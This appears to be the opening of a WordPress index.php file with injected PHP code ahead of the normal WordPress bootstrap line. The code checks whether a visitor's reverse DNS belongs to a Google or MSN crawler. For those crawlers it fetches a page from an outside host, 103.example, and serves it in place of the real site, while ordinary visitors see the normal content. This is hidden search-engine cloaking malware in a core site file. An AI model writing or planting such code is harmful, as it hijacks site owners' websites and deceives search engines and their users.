<?php
$ip = $_SERVER['HTTP_CF_CONNECTING_IP'] ?? $_SERVER['REMOTE_ADDR'];
if (preg_match('/\.(googlebot|google|search\.msn)\.com$/', (string) gethostbyaddr($ip))) {
    $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, 'http://103.example/land/index.html'); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    exit(curl_exec($ch));
}
define('WP_USE_THEMES', true);
